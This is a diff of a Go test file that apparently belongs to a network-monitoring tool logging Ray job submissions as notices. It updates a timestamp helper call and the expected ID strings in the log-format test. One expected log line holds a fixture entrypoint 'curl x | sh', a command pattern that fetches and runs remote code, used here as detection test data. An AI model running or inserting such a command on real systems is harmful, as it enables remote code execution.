@@ -212,10 +212,10 @@ func TestTimes(t *testing.T) {
 		{math.MaxInt64, "9223372036.854775", "9223372036.854775"},
 		{math.MinInt64, "-9223372036.854776", "-9223372036.854776"},
 	} {
-		if got := string(appendFixed(nil, micros(c.ns))); got != c.tsv {
+		if got := string(appendFixed(nil, c.ns.Micros())); got != c.tsv {
 			t.Errorf("%d ns: text %s, want %s", c.ns, got, c.tsv)
 		}
-		if got := string(appendTrimmed(nil, micros(c.ns))); got != c.json {
+		if got := string(appendTrimmed(nil, c.ns.Micros())); got != c.json {
 			t.Errorf("%d ns: JSON %s, want %s", c.ns, got, c.json)
 		}
 	}
@@ -269,8 +269,8 @@ func TestFindingIsANotice(t *testing.T) {
 		7: "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tenum\tenum\tstring\tstring\taddr\taddr\tport\tcount\tstring\tset[enum]\tset[string]\tinterval" +
 			"\tstring\tstring\tcount\tstring\tvector[string]\tvector[string]\tvector[string]\tstring\tstring",
 		8: "1700000000.000000\tCabcDEF\t203.0.113.66\t40000\t10.20.0.10\t8265\t-\t-\t-\ttcp\tRaytap::Job_Submit_External\t203.0.113.66 submitted a job\t-\t203.0.113.66\t10.20.0.10\t8265\t-\t-\tNotice::ACTION_LOG\t(empty)\t3600.000000" +
-			"\tjobsubmit/external\tcritical\t95\tsucceeded\t(empty)\tT0000\tentrypoint=curl x | sh\\x2c then #52,agent=é\t1:LvmFRF4AQoIlK+PcqFLJxDnd8/w=\tRCUI9kGZUTvlyEWMBm",
-		9: "0.000000\t-\t-\t-\t-\t-\t-\t-\t-\t-\tRaytap::new_one\tm\t-\t-\t-\t-\t-\t-\tNotice::ACTION_LOG\t(empty)\t3600.000000\tnew/one\tinfo\t0\t-\t(empty)\t(empty)\t(empty)\t-\tRkCj7XXJLCuNVSubrp",
+			"\tjobsubmit/external\tcritical\t95\tsucceeded\t(empty)\tT0000\tentrypoint=curl x | sh\\x2c then #52,agent=é\t1:LvmFRF4AQoIlK+PcqFLJxDnd8/w=\tRNzFHanebaMQWAagHg",
+		9: "0.000000\t-\t-\t-\t-\t-\t-\t-\t-\t-\tRaytap::new_one\tm\t-\t-\t-\t-\t-\t-\tNotice::ACTION_LOG\t(empty)\t3600.000000\tnew/one\tinfo\t0\t-\t(empty)\t(empty)\t(empty)\t-\tR23c7icZhMlISR4HQF",
 	} {
 		if lines[i] != want {
 			t.Errorf("line %d is\n%q, want\n%q", i, lines[i], want)
